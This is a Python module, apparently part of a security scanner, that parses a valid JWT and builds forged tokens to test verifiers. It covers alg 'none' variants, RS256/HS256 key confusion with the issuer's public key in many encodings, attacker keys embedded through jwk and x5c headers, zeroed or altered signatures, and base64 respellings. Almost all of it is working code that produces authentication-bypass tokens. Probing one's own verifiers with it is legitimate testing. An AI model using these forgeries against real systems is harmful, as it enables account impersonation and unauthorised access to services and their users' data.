"""Takes a valid token apart and makes broken ones of it. Pure but for the making of the attacker's own key.

The token attacks call it. Nothing here can make a token that a sound verifier takes, unless its owner gave the issuer's
own key: then `Signer.genuine` is true, and what is wrong with a token is its claims alone.
"""

import base64
import binascii
import datetime as dt
import hashlib
import hmac
import json
import secrets
from collections.abc import Mapping
from functools import lru_cache
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric.padding import PKCS1v15
from cryptography.hazmat.primitives.asymmetric.rsa import RSAPrivateKey, generate_private_key
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from cryptography.x509.oid import NameOID
from joserfc.errors import JoseError
from joserfc.jwk import RSAKey
from msgspec import Struct

Json = dict[str, Any]
_HMAC = {"HS256": "sha256", "HS384": "sha384", "HS512": "sha512"}


class Jwt(Struct, frozen=True, kw_only=True):
    """A signed token in its parts. `signed` is the text that its signature covers."""

    header: Json
    claims: Json
    signed: str
    signature: str

    @property
    def text(self) -> str:
        """The whole token."""
        return f"{self.signed}.{self.signature}"


class Forged(Struct, frozen=True):
    """A token that must not be taken, and in a few words what is wrong with it."""

    name: str
    token: str


class Signer(Struct, frozen=True, kw_only=True):
    """A private RSA key. `genuine` when it is the issuer's own, which only an owner can give."""

    key: RSAPrivateKey
    key_id: str
    genuine: bool

    def sign(self, header: Mapping[str, Any], claims: Mapping[str, Any]) -> str:
        """A token with this header and these claims, signed with RS256 whatever the header says."""
        return self.sign_text(f"{encode_json(header)}.{encode_json(claims)}")

    def sign_text(self, signed: str) -> str:
        """A signature under a header and claims that are encoded already."""
        return f"{signed}.{encode(self.key.sign(signed.encode(), PKCS1v15(), hashes.SHA256()))}"

    def public_jwk(self) -> Json:
        """Its public half."""
        numbers = self.key.public_key().public_numbers()
        return {
            "kty": "RSA",
            "kid": self.key_id,
            "use": "sig",
            "alg": "RS256",
            "n": _encode_number(numbers.n),
            "e": _encode_number(numbers.e),
        }


def take_apart(token: str) -> Jwt | None:
    """The parts of a token; None when it is no JWT."""
    parts = token.split(".")
    if len(parts) != 3:
        return None
    try:
        header, claims = json.loads(decode(parts[0])), json.loads(decode(parts[1]))
    except (ValueError, binascii.Error):
        return None
    if not isinstance(header, dict) or not isinstance(claims, dict):
        return None
    return Jwt(header=header, claims=claims, signed=f"{parts[0]}.{parts[1]}", signature=parts[2])


def encode(raw: bytes) -> str:
    """base64url without padding (RFC 7515 2)."""
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def decode(part: str) -> bytes:
    """The bytes of a part. Raises ValueError."""
    return base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))


def encode_json(value: object) -> str:
    """base64url of compact JSON."""
    return encode(json.dumps(value, separators=(",", ":")).encode())


def without(values: Mapping[str, Any], *names: str) -> Json:
    """A copy that lacks these members."""
    return {name: value for name, value in values.items() if name not in names}


def mac(header: Mapping[str, Any], claims: Mapping[str, Any], secret: bytes, algorithm: str = "HS256") -> str:
    """A token whose "signature" is an HMAC with this secret."""
    signed = f"{encode_json({**header, 'alg': algorithm})}.{encode_json(claims)}"
    return f"{signed}.{encode(hmac.digest(secret, signed.encode(), _HMAC[algorithm]))}"


@lru_cache(maxsize=1)
def attacker() -> Signer:
    """The attacker's own key, which no issuer has published."""
    return Signer(key=generate_private_key(65537, 2048), key_id=f"probe-{secrets.token_hex(8)}", genuine=False)


def issuer_signer(given: str, jwt: Jwt) -> Signer | None:
    """A signer with the key that the owner gave (a private JWK as JSON, or PEM); None when it is no RSA key."""
    try:
        key = RSAKey.import_key(json.loads(given) if given.lstrip().startswith("{") else given)
        private = key.private_key
    except (JoseError, ValueError, TypeError):
        return None
    if private is None:
        return None
    return Signer(key=private, key_id=str(jwt.header.get("kid", "")), genuine=True)


def unsigned(jwt: Jwt) -> list[Forged]:
    """AP-JWT-01: a token that says it needs no signature, in every spelling that a lax comparison would take."""
    spellings = ["none", "None", "NONE", "nOnE", " none", "none ", "none\t", "n\u043ene", "", "null"]
    forged = []
    for spelling in spellings:
        signed = f"{encode_json({**jwt.header, 'alg': spelling})}.{encode_json(jwt.claims)}"
        forged.append(Forged(f"alg {spelling!r} without a signature", f"{signed}."))
        forged.append(Forged(f"alg {spelling!r} with the old signature", f"{signed}.{jwt.signature}"))
    bare = f"{encode_json({'alg': 'none'})}.{encode_json(jwt.claims)}"
    no_algorithm = f"{encode_json(without(jwt.header, 'alg'))}.{encode_json(jwt.claims)}"
    null = f"{encode_json({**jwt.header, 'alg': None})}.{encode_json(jwt.claims)}"
    return [
        *forged,
        Forged("alg 'none' and nothing else in the header", f"{bare}."),
        Forged("alg 'none' in two parts", bare),
        Forged("no alg", f"{no_algorithm}."),
        Forged("no alg, with the old signature", f"{no_algorithm}.{jwt.signature}"),
        Forged("alg null", f"{null}."),
        Forged("the valid token with its signature cut off", f"{jwt.signed}."),
    ]


def public_spellings(jwk: Mapping[str, Any]) -> dict[str, bytes]:
    """Every form in which a published RSA key may end up as the secret of an HMAC (AP-JWT-02)."""
    public = RSAKey.import_key({name: str(jwk[name]) for name in ("kty", "n", "e")}).public_key
    spki = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    pkcs1 = public.public_bytes(Encoding.PEM, PublicFormat.PKCS1)
    spellings = {
        "PEM": spki,
        "PEM without its last newline": spki.rstrip(b"\n"),
        "PEM with CRLF": spki.replace(b"\n", b"\r\n"),
        "PKCS#1 PEM": pkcs1,
        "PKCS#1 PEM without its last newline": pkcs1.rstrip(b"\n"),
        "DER": public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "PKCS#1 DER": public.public_bytes(Encoding.DER, PublicFormat.PKCS1),
        "n as text": str(jwk["n"]).encode(),
        "n as bytes": decode(str(jwk["n"])),
        "JWK": json.dumps(jwk, separators=(",", ":")).encode(),
        "thumbprint": _thumbprint(jwk).encode(),
    }
    for certificate in jwk.get("x5c", [])[:1]:
        spellings["certificate"] = f"-----BEGIN CERTIFICATE-----\n{certificate}\n-----END CERTIFICATE-----\n".encode()
    return spellings


def confused(jwt: Jwt, jwk: Mapping[str, Any]) -> list[Forged]:
    """AP-JWT-02: the issuer's public key as the secret of an HMAC."""
    spellings = public_spellings(jwk)
    forged = [
        Forged(f"HS256 with the public key as {name}", mac(jwt.header, jwt.claims, secret))
        for name, secret in spellings.items()
    ]
    forged += [
        Forged(f"{algorithm} with PEM", mac(jwt.header, jwt.claims, spellings["PEM"], algorithm))
        for algorithm in ("HS384", "HS512")
    ]
    no_key_id = without(jwt.header, "kid")
    forged.append(Forged("HS256 with PEM and no kid", mac(no_key_id, jwt.claims, spellings["PEM"])))
    return forged


def certificate(signer: Signer) -> x509.Certificate:
    """A certificate of the attacker's key, signed by itself."""
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "probe")])
    now = dt.datetime.now(dt.UTC)
    builder = x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(signer.key.public_key())
    builder = builder.serial_number(1).not_valid_before(now - dt.timedelta(days=1))
    return builder.not_valid_after(now + dt.timedelta(days=1)).sign(signer.key, hashes.SHA256())


def brought_keys(jwt: Jwt, signer: Signer) -> list[Forged]:
    """AP-JWT-03: a token that brings the key along which it was signed with."""
    der = certificate(signer).public_bytes(Encoding.DER)
    x5c = {"x5c": [base64.b64encode(der).decode()], "x5t#S256": encode(hashlib.sha256(der).digest())}
    jwk = {"jwk": signer.public_jwk()}
    old = jwt.header
    headers = {
        "jwk and the issuer's kid": {**old, **jwk},
        "jwk and its own kid": {**old, **jwk, "kid": signer.key_id},
        "jwk that takes the issuer's kid": {**old, "jwk": {**signer.public_jwk(), "kid": str(old.get("kid", ""))}},
        "jwk without kid": {**without(old, "kid"), **jwk},
        "x5c and the issuer's kid": {**old, **x5c},
        "x5c and its own kid": {**old, **x5c, "kid": signer.key_id},
        "x5c without kid": {**without(old, "kid"), **x5c},
        "the issuer's kid and a foreign key": old,
        "no kid and a foreign key": without(old, "kid"),
    }
    return [Forged(name, signer.sign(header, jwt.claims)) for name, header in headers.items()]


def other_signatures(jwt: Jwt) -> list[Forged]:
    """AP-JWT-10: signatures that are no signatures."""
    raw = decode(jwt.signature)
    flipped = bytes([raw[0] ^ 1]) + raw[1:]
    last = raw[:-1] + bytes([raw[-1] ^ 1])
    elliptic = {**jwt.header, "alg": "ES256"}
    edwards = {**jwt.header, "alg": "EdDSA"}
    changed = encode_json({**jwt.claims, "username": "somebody-else"})
    header = jwt.signed.split(".", 1)[0]
    texts = {
        "no signature": b"",
        "one zero byte": b"\0",
        "all zero": bytes(len(raw)),
        "all ones": b"\xff" * len(raw),
        "the first bit flipped": flipped,
        "the last bit flipped": last,
        "a byte short": raw[:-1],
        "a leading zero byte": b"\0" + raw,
        "a byte more": raw + b"\0",
        "twice": raw + raw,
        "reversed": raw[::-1],
    }
    forged = [Forged(f"signature: {name}", f"{jwt.signed}.{encode(value)}") for name, value in texts.items()]
    return [
        *forged,
        Forged("ES256 with (0,0)", f"{encode_json(elliptic)}.{encode_json(jwt.claims)}.{encode(bytes(64))}"),
        Forged("ES256 with (0,0) in DER", f"{encode_json(elliptic)}.{encode_json(jwt.claims)}.MAYCAQACAQA"),
        Forged("EdDSA with zeros", f"{encode_json(edwards)}.{encode_json(jwt.claims)}.{encode(bytes(64))}"),
        Forged("other claims under the old signature", f"{header}.{changed}.{jwt.signature}"),
    ]


def respelled(jwt: Jwt) -> list[Forged]:
    """AP-JWT-10: a valid token in another spelling of base64, so that two readers may see two texts."""
    head, claims = jwt.signed.split(".")
    standard = jwt.signature.replace("-", "+").replace("_", "/")
    forged = [
        Forged("padding after the signature", f"{jwt.text}=="),
        Forged("padding after the header", f"{head}=.{claims}.{jwt.signature}"),
        Forged("a space in the signature", f"{jwt.signed}.{jwt.signature[:8]} {jwt.signature[8:]}"),
        Forged("a foreign character in the signature", f"{jwt.signed}.{jwt.signature[:8]}!{jwt.signature[8:]}"),
        Forged("a full stop at the end", f"{jwt.text}."),
        Forged("a tab before the signature", f"{jwt.signed}.\t{jwt.signature}"),
        Forged("a percent sign at the end", f"{jwt.text}%00"),
    ]
    if standard != jwt.signature:
        forged.append(Forged("the standard alphabet", f"{jwt.signed}.{standard}"))
    spare = _spare_bits(jwt.signature)
    if spare:
        forged.append(Forged("spare bits set at the end", f"{jwt.signed}.{spare}"))
    return forged


def _spare_bits(part: str) -> str:
    """Another last character for the same bytes; empty when every bit counts."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    raw = decode(part)
    for character in alphabet:
        other = part[:-1] + character
        if character != part[-1] and decode(other) == raw:
            return other
    return ""


def _encode_number(number: int) -> str:
    return encode(number.to_bytes((number.bit_length() + 7) // 8))


def _thumbprint(jwk: Mapping[str, Any]) -> str:
    members = json.dumps({"e": jwk["e"], "kty": jwk["kty"], "n": jwk["n"]}, separators=(",", ":"))
    return encode(hashlib.sha256(members.encode()).digest())


def is_rsa(key: object) -> bool:
    """Whether this is a public RSA key of a JWK Set."""
    return isinstance(key, dict) and key.get("kty") == "RSA" and "n" in key and "e" in key
